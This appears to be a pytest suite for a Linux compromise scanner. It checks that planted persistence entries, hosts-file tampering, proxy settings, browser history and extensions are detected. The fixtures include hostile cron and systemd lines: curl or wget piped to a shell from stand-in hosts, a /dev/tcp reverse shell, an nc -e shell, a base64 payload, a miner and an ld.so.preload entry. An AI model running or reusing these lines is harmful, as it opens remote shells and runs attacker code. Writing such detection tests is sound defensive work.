"""Linux checks on a test machine: a folder in place of `/`."""

from __future__ import annotations

import sqlite3
from types import SimpleNamespace
from typing import Any

import psutil
import pytest

from lamsach.scanner.checks.browsers import check_browsers
from lamsach.scanner.checks.context import Context
from lamsach.scanner.checks.names import check_names
from lamsach.scanner.checks.processes import check_connections
from lamsach.scanner.checks.settings import check_proxy
from lamsach.scanner.checks.start_linux import start_linux

from .planted import write

STARTS = [
    (
        "etc/systemd/system/x.service",
        "[Service]\nExecStart=-/bin/sh -c 'curl http://192.0.2.1/x | sh'\n",
        "start_habit",
    ),
    (
        "etc/systemd/system/x.service",
        "[Service]\nExecStart=/opt/x --server evil.example.com\n",
        "listed_start",
    ),
    ("home/nam/.config/systemd/user/x.service", "[Service]\nExecStart=/dev/shm/.x/kworker\n", "start_habit"),
    ("etc/crontab", "* * * * * root wget -qO- http://bad.example.net/drop/a | bash\n", "listed_start"),
    ("etc/cron.d/x", "@reboot root echo aGk= | base64 -d | sh\n", "start_habit"),
    ("var/spool/cron/crontabs/nam", "*/5 * * * * bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n", "start_habit"),
    ("etc/cron.hourly/x", "#!/bin/sh\nnc 198.51.100.77 4444 -e /bin/sh\n", "listed_start"),
    ("etc/rc.local", "#!/bin/sh\n/tmp/.cache/x &\n", "start_habit"),
    ("home/nam/.bashrc", "alias ls='ls --color'\nxmr -o stratum+tcp://pool.example:3333\n", "start_habit"),
    ("home/nam/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/var/tmp/.hidden/a\n", "start_habit"),
    ("etc/ld.so.preload", "/usr/local/lib/libhide.so\n", "preload"),
    ("root/.ssh/authorized_keys", "ssh-rsa AAAAB3Nza mdrfckr\n", "known_key"),
]
ORDINARY = [
    (
        "etc/systemd/system/a.service",
        "[Service]\nExecStart=/usr/sbin/nginx -g 'daemon off;'\nExecReload=/bin/kill -HUP $MAINPID\n",
    ),
    (
        "etc/crontab",
        (
            "# a comment: curl http://x | sh\nSHELL=/bin/sh\n"
            "17 * * * * root cd / && run-parts /etc/cron.hourly\n"
        ),
    ),
    (
        "home/nam/.bashrc",
        '[ -z "$PS1" ] && return\nexport PATH=$HOME/bin:$PATH\nsource /etc/bash_completion\n',
    ),
    ("etc/profile.d/x.sh", "export TMPDIR=/tmp/build\n"),
    ("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nza admin@unit.example\n"),
    ("etc/cron.d/certs", "0 3 * * * root test -x /usr/bin/certbot && certbot -q renew\n"),
]


@pytest.mark.parametrize(("path", "text", "reason"), STARTS)
def test_automatic_starts_are_found(context: Context, path: str, text: str, reason: str) -> None:
    file = write(context, path, text)
    start_linux(context)
    assert (reason, str(file)) in {(finding.reason, finding.subject) for finding in context.findings}
    assert all(
        finding.target is not None and finding.target.path == str(file) for finding in context.findings
    )
    assert context.counts.start_entries > 0


@pytest.mark.parametrize(("path", "text"), ORDINARY)
def test_ordinary_starts_are_no_findings(context: Context, path: str, text: str) -> None:
    write(context, path, text)
    start_linux(context)
    assert not context.findings


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("127.0.0.1 activate.adobe.com", "hosts_activation"),
        ("0.0.0.0 lmlicenses.wip4.adobe.com # x", "hosts_activation"),
        ("::ffff:127.0.0.1 activate.adobe.com", "hosts_activation"),
        ("::ffff:0.0.0.0 evil.example.com", None),
        ("127.0.0.1 www.kaspersky.com", "hosts_protection"),
        ("192.0.2.4 definitionupdates.microsoft.com", "hosts_protection"),
        ("203.0.113.9 bank.example.org", "listed_hosts"),
        ("192.0.2.4 www.evil.example.com", "listed_hosts"),
        ("0.0.0.0 evil.example.com", None),
        ("127.0.0.1 localhost printer.unit.example", None),
        ("# 127.0.0.1 activate.adobe.com", None),
        ("not an address", None),
        ("\ud800", None),
    ],
)
def test_a_line_of_the_hosts_file_is_judged(context: Context, line: str, reason: str | None) -> None:
    file = context.root / "etc/hosts"
    file.parent.mkdir()
    file.write_bytes(f"::1 localhost\n{line}\n".encode("utf-8", "surrogatepass"))
    check_names(context)
    assert {finding.reason for finding in context.findings} == ({reason} if reason else set())


def test_resolver_and_proxy(context: Context) -> None:
    write(context, "etc/resolv.conf", "nameserver 198.51.100.53\nnameserver 192.0.2.53\n")
    write(context, "etc/hosts", "")
    write(context, "etc/environment", "PATH=/bin\nhttp_proxy=http://evil.example.com:3128\n")
    check_names(context)
    check_proxy(context)
    assert [finding.reason for finding in context.findings] == ["listed_resolver", "listed_proxy"]
    assert context.findings[1].target is not None
    assert context.findings[1].target.text == "http_proxy=http://evil.example.com:3128"


@pytest.mark.parametrize(
    ("name", "schema", "row"),
    [
        (
            "home/nam/.config/chromium/Default/History",
            "urls (url, last_visit_time)",
            ("http://evil.example.com/a", 13300000000000000),
        ),
        (
            "home/nam/.mozilla/firefox/x.default/places.sqlite",
            "moz_places (url, last_visit_date)",
            ("http://bad.example.net/drop?x=1", 1660000000000000),
        ),
        (
            "home/nam/.config/chromium/Profile 1/History",
            "urls (url, last_visit_time)",
            ("https://198.51.100.4/", "broken"),
        ),
    ],
)
def test_listed_visits_are_found_in_a_copy_of_the_history(
    context: Context, name: str, schema: str, row: tuple[Any, ...]
) -> None:
    file = context.root / name
    file.parent.mkdir(parents=True)
    base = sqlite3.connect(file)
    base.execute(f"CREATE TABLE {schema}")
    base.executemany(f"INSERT INTO {schema.split()[0]} VALUES (?, ?)", [row, ("https://unit.example/", 1)])
    base.commit()
    base.close()
    before = file.read_bytes()
    check_browsers(context)
    (finding,) = context.findings
    assert (finding.reason, finding.detail) == ("listed_visit", row[0])
    assert (finding.time is None) == isinstance(row[1], str)
    assert file.read_bytes() == before


def test_a_damaged_history_is_listed(context: Context) -> None:
    write(context, "home/nam/.config/chromium/Default/History", "no database")
    check_browsers(context)
    assert [skip.reason for skip in context.skips] == ["damaged"]


def test_extensions_from_outside_the_store_are_found(context: Context) -> None:
    profile = "home/nam/.config/chromium/Default"
    (context.root / profile / "Extensions").mkdir(parents=True)
    write(
        context,
        f"{profile}/Preferences",
        (
            '{"extensions": {"settings": {"a": {"location": 4, "path": "/x", "manifest": {"name": "Odd"}}, '
            '"b": {"location": 1}, "c": 7}}}'
        ),
    )
    check_browsers(context)
    assert [finding.values["name"] for finding in context.findings] == ["Odd"]


@pytest.mark.parametrize("text", ["", "[]", '{"extensions": 3}', "[" * 100_000])
def test_broken_preferences_are_no_findings(context: Context, text: str) -> None:
    profile = "home/nam/.config/chromium/Default"
    (context.root / profile / "Extensions").mkdir(parents=True)
    write(context, f"{profile}/Preferences", text)
    check_browsers(context)
    assert not context.findings


def test_connections_without_the_right_to_see_them_are_skipped(
    context: Context, monkeypatch: pytest.MonkeyPatch
) -> None:
    def connection(address: str) -> SimpleNamespace:
        return SimpleNamespace(raddr=SimpleNamespace(ip=address, port=443), pid=None, status="ESTABLISHED")

    seen = [
        connection(address)
        for address in ("198.51.100.7", "::ffff:203.0.113.9", "192.0.2.1", "2001:db8:bad::1", "fe80::1%eth0")
    ]
    monkeypatch.setattr(
        psutil, "net_connections", lambda _: [*seen, SimpleNamespace(raddr=(), pid=1, status="LISTEN")]
    )
    check_connections(context)
    assert [finding.indicator for finding in context.findings] == [
        "198.51.100.0/24",
        "203.0.113.9",
        "2001:db8:bad::1",
    ]
    assert context.counts.connections == 5
    monkeypatch.setattr(psutil, "net_connections", lambda _: (_ for _ in ()).throw(psutil.AccessDenied()))
    check_connections(context)
    assert [skip.reason for skip in context.skips] == ["no_right"]
